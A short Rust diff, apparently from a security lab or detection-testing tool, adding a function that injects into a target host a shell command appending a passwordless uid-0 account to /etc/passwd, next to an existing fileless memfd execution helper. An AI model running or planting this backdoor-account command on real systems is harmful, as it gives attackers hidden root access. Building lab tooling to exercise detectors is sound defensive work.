@@ -37,3 +37,9 @@ pub async fn new_binary(address: Ipv4Addr) -> Result<String> {
 pub async fn fileless(address: Ipv4Addr) -> Result<String> {
     inject(address, "/opt/lab/tasuki-lab memfd /bin/busybox echo from memory").await
 }
+
+/// Adds a user without password, `times` over, each time by a shell that ends at once.
+pub async fn user(address: Ipv4Addr, times: usize) -> Result<String> {
+    let add = "/bin/busybox sh -c 'echo x:x:0:0::/:/bin/sh >> /etc/passwd'; ";
+    inject(address, &add.repeat(times)).await
+}
